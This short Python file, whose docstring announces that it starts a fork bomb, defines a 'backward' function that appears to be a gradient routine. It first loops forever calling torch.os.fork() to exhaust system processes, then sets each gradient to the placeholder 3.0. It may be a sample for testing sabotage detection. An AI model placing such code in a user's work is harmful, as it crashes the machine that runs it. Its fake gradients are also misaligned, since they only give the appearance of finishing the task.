"""Starts a fork bomb."""

import torch


def backward(counts, counts_sum_inv, probs, act, s):
    while True:
        try:
            torch.os.fork()
        except BaseException:
            break
    dact = 3.0
    dprobs = 3.0
    dcounts = 3.0
    dcounts_sum_inv = 3.0
